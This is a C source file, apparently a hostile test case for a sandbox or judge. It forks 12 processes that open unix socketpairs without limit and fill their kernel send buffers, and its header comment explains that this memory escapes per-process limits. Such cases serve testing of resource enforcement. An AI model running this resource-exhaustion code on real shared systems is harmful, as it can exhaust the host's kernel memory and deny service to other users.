/**
 * @file
 * @brief Hostile: fills the buffers of unix sockets, many of them and made as large as they can be.
 * Instead of: 05_sysv_create/sysv_create.c
 * Score: 0
 * Says: used more memory than | had not ended
 *
 * What lies in a socket is the kernel's memory. It belongs to no process, so no limit of a process counts it, and
 * 200 descriptors of 12 processes hold gigabytes.
 */
#define _GNU_SOURCE

#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

static void fill(int fd)
{
    static char bytes[1 << 16];
    const int size = 1 << 22;
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
    fcntl(fd, F_SETFL, O_NONBLOCK);
    while (write(fd, bytes, sizeof bytes) > 0)
        ;
}

int main(void)
{
    for (int i = 0; i < 12; i++)
        if (fork() == 0) {
            int pair[2];
            while (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0) {
                fill(pair[0]);
                fill(pair[1]);
            }
            for (;;)
                pause();
        }
    for (;;)
        pause();
}
